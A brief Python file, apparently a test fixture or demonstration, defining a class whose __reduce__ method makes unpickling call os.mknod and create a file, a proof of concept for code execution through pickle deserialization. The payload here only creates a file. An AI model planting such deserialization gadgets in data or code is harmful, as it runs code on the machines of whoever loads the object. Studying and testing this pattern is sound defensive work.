"""A pickle that betrays whoever loads it."""

import os


class Touch:
    """Unpickled, it makes a file."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return os.mknod, (self.path,)
